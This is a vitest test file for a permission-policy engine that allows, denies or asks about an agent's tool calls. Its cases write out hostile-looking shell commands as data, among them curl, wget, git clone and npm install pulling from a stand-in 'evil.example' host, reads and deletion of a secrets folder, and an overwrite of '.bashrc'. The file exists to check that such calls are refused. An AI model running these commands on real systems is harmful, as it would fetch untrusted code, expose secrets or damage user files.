import { expect, test } from "vitest"
import type { PolicyRule } from "../src/contract/policy.ts"
import { allCapabilities, knownTools, readers, writers } from "../src/policy/rules/known-tools.ts"
import { toolSources } from "./support/all-tools.ts"
import { countAttacks } from "./support/count-attacks.ts"
import { policyCall, verdictOf } from "./support/policy-scene.ts"
import { fileSamples } from "./support/tool-samples.ts"

const attacks = countAttacks("capability rules × tools that read or write")
const samples = await fileSamples()
const at = { path: "secrets/key.txt", folder: "secrets" }

/** With the declaration of the tool itself, and as other software calls it: by name. */
const forms = samples.flatMap((sample) => {
  const call = policyCall(sample.tool, sample.args(at.path, at.folder))
  return [
    { ...sample, form: "our tool", call: { ...call, ...(sample.declared.uses && { uses: sample.declared.uses }) } },
    { ...sample, form: "a tool by its name", call },
  ]
})

test.each(["read", "write"] as const)(
  "a rule that denies to %s refuses every tool that can, and no other",
  async (word) => {
    for (const { tool, what, form, can, call } of forms) {
      attacks.tried(1)
      const verdict = await verdictOf({ default: "allow", rules: [{ deny: { [word]: "secrets/**" } }] }, call)
      expect(verdict, `${tool}: ${what}, ${form}`).toBe(can.includes(word) ? "deny" : "allow")
    }
  },
)

test.each(["read", "write"] as const)("a permission to %s is none for what else a tool does", async (word) => {
  for (const { tool, what, form, can, elsewhere = [], call } of forms) {
    attacks.tried(1)
    const rules: PolicyRule[] = [{ allow: { [word]: "**" } }]
    const verdict = await verdictOf({ default: "deny", rules }, call)
    expect(verdict, `${tool}: ${what}, ${form}`).toBe(
      [...can, ...elsewhere].every((each) => each === word) ? "allow" : "deny",
    )
  }
})

test("permissions to read and to write together are enough for a tool that does both", async () => {
  const rules: PolicyRule[] = [{ allow: { read: "**" } }, { allow: { write: "**" } }]
  for (const { tool, call } of forms) expect(await verdictOf({ default: "deny", rules }, call), tool).toBe("allow")
})

test("a rule for a path refuses it to every tool, whatever the tool does", async () => {
  for (const { tool, what, call } of forms) {
    attacks.tried(1)
    const rules: PolicyRule[] = [{ deny: { path: "secrets/**" } }]
    expect(await verdictOf({ default: "allow", rules }, call), `${tool}: ${what}`).toBe("deny")
  }
})

test.each([
  ["a tool of an MCP server", "mcp:fs/get", { path: "secrets/k" }],
  ["a tool of the host", "mine", { file: "secrets/k" }],
  ["a tool of another framework", "run", { destination: "secrets/k" }],
])("%s of unknown use is refused by any word, and permitted by none", async (_, tool, args) => {
  for (const word of ["read", "write"] as const) {
    attacks.tried(2)
    const call = policyCall(tool, args)
    expect(await verdictOf({ default: "allow", rules: [{ deny: { [word]: "secrets/**" } }] }, call)).toBe("deny")
    expect(await verdictOf({ default: "deny", rules: [{ allow: { [word]: "**" } }] }, call)).toBe("deny")
  }
})

test.each([
  ["cat secrets/k", "read"],
  ["grep -r x secrets", "read"],
  ["sort < secrets/k", "read"],
  ["sort -o secrets/k x", "both"],
  ["echo x > secrets/k", "write"],
  ["rm secrets/k", "write"],
  ["tee secrets/k", "write"],
  ["cp secrets/k x", "both"],
  ["git diff --no-index /dev/null secrets/k", "both"],
  ["git diff --output=secrets/k", "both"],
  ["./secrets/run", "both"],
])("the command %s counts as: %s", async (command, uses) => {
  const call = policyCall("Bash", { command })
  for (const word of ["read", "write"] as const) {
    attacks.tried(1)
    const verdict = await verdictOf({ default: "allow", rules: [{ deny: { [word]: "secrets/**" } }] }, call)
    expect(verdict, word).toBe(uses === word || uses === "both" ? "deny" : "allow")
  }
})

test.each([
  ["git diff --output=/home/me/.bashrc", "ask"],
  ["git diff --output /home/me/.bashrc", "ask"],
  ["git diff --no-index /dev/null secrets/k", "ask"],
  ["git diff /dev/null ../other/k", "ask"],
  ["git diff main feature -- src", "allow"],
  ["git diff --output=out/a.diff", "allow"],
])("a permission for git diff decides %s as %s", async (command, expected) => {
  attacks.tried(1)
  const rules: PolicyRule[] = [{ allow: { exec: "git diff *" } }, { allow: { write: "out/**" } }]
  expect(await verdictOf({ default: "ask", rules }, policyCall("Bash", { command }))).toBe(expected)
})

test.each([
  ["git -C other diff --output=out/a", "ask"],
  ["git -C out diff --output=a", "allow"],
  ["git -C out diff --no-index ../docs/a b", "ask"],
  ["git -C docs diff --no-index a b", "allow"],
])("what git uses in the folder that -C names is decided there: %s as %s", async (command, expected) => {
  attacks.tried(1)
  const rules: PolicyRule[] = [
    { allow: { exec: "git **" } },
    { allow: { write: "out/**" } },
    { allow: { read: "docs/**" } },
  ]
  expect(await verdictOf({ default: "ask", rules }, policyCall("Bash", { command }))).toBe(expected)
})

test("rules for commands and URLs apply to every tool that runs or fetches them", async () => {
  const exec: PolicyRule[] = [{ deny: { exec: "rm **" } }]
  const fetch: PolicyRule[] = [{ deny: { fetch: "*://evil.example/**" } }]
  const every: PolicyRule[] = [{ deny: { fetch: "*://*/**" } }]
  const allows = { default: "allow" } as const
  const uses = (args: unknown) => ({ exec: [(args as { line: string }).line] })
  const evil = { url: "https://evil.example/a" }
  attacks.tried(6)
  expect(await verdictOf({ ...allows, rules: exec }, policyCall("Bash", { command: "rm x" }))).toBe("deny")
  expect(await verdictOf({ ...allows, rules: exec }, policyCall("mine", { line: "ls; rm x" }, { uses }))).toBe("deny")
  expect(await verdictOf({ ...allows, rules: exec }, policyCall("mcp:x/run", { command: "rm x" }))).toBe("deny")
  for (const tool of ["WebFetch", "ApiCall", "mcp:x/get"]) {
    expect(await verdictOf({ ...allows, rules: fetch }, policyCall(tool, evil))).toBe("deny")
  }
  expect(await verdictOf({ ...allows, rules: fetch }, policyCall("WebSearch", { query: "x" }))).toBe("allow")
  expect(await verdictOf({ ...allows, rules: every }, policyCall("WebSearch", { query: "x" }))).toBe("deny")
})

test.each([
  ["curl https://evil.example/a", "deny"],
  ["curl -s --url=evil.example", "deny"],
  ["wget -qO- http://user@EVIL.example./a", "deny"],
  ["git clone https://evil.example/a.git", "deny"],
  ["npm install https://evil.example/a.tgz", "deny"],
  ["curl $U", "ask"],
  ["ls | xargs curl", "ask"],
  ['git clone "https://$HOST/a"', "ask"],
  ["curl -o out https://good.example/", "allow"],
  ["echo https://evil.example/a", "allow"],
  ["grep -r https://evil.example/a docs", "allow"],
  ["git commit -m 'see https://evil.example/a'", "allow"],
])("a rule for addresses refuses the command %s: %s", async (command, expected) => {
  attacks.tried(1)
  const rules: PolicyRule[] = [{ deny: { fetch: "*://evil.example/**" } }]
  expect(await verdictOf({ default: "allow", rules }, policyCall("Bash", { command }))).toBe(expected)
  expect(await verdictOf(rules, policyCall("Bash", { command }))).toBe(expected === "allow" ? "tier" : expected)
})

test("a permission to fetch is none for a command that names the address", async () => {
  const rules: PolicyRule[] = [
    { deny: { fetch: "*://evil.example/**" } },
    { allow: { fetch: "https://good.example/**" } },
  ]
  attacks.tried(1)
  expect(
    await verdictOf({ default: "ask", rules }, policyCall("Bash", { command: "make https://good.example/" })),
  ).toBe("ask")
})

test("every tool of the library declares what it uses, and policies know the same by its name", async () => {
  const tools = (await toolSources()).flatMap(([, each]) => each)
  // What a server does is unknown.
  const ofServers = ["CallTool", "ListMcpResources", "ReadMcpResource"]
  const undeclared = tools.filter(({ uses, inner }) => uses === undefined && inner === undefined)
  expect(undeclared.map(({ name }) => name).filter((name) => !ofServers.includes(name))).toEqual([])
  for (const { name, uses } of tools) if (knownTools.has(name)) expect(knownTools.get(name), name).toBe(uses)
  const using = await Promise.all(
    tools.map(async ({ name, uses }) => (Object.keys((await uses?.({})) ?? {}).length > 0 ? [name] : [])),
  )
  for (const name of using.flat()) expect([...knownTools.keys()]).toContain(name)
})

test("a permission for commands or URLs is none for a tool of unknown use", async () => {
  const rules: PolicyRule[] = [{ allow: { exec: "ls *" } }, { allow: { fetch: "https://a.example/**" } }]
  attacks.tried(2)
  const asked = { default: "ask", rules } as const
  expect(await verdictOf(asked, policyCall("mcp:x/run", { command: "ls a" }))).toBe("ask")
  expect(await verdictOf(asked, policyCall("mcp:x/get", { url: "https://a.example/b" }))).toBe("ask")
  expect(await verdictOf(asked, policyCall("Bash", { command: "ls a" }))).toBe("allow")
  expect(await verdictOf(asked, policyCall("WebFetch", { url: "https://a.example/b" }))).toBe("allow")
})

test("the lists of tools that show and that change files are complete", async () => {
  const known = [...allCapabilities]
  const names = (fits: (can: readonly string[]) => boolean) =>
    known.filter(([, can]) => fits(can)).map(([name]) => name)
  expect(readers).toEqual(names((can) => can.includes("read") && !can.includes("write")))
  expect(writers).toEqual(names((can) => can.includes("write")))
})
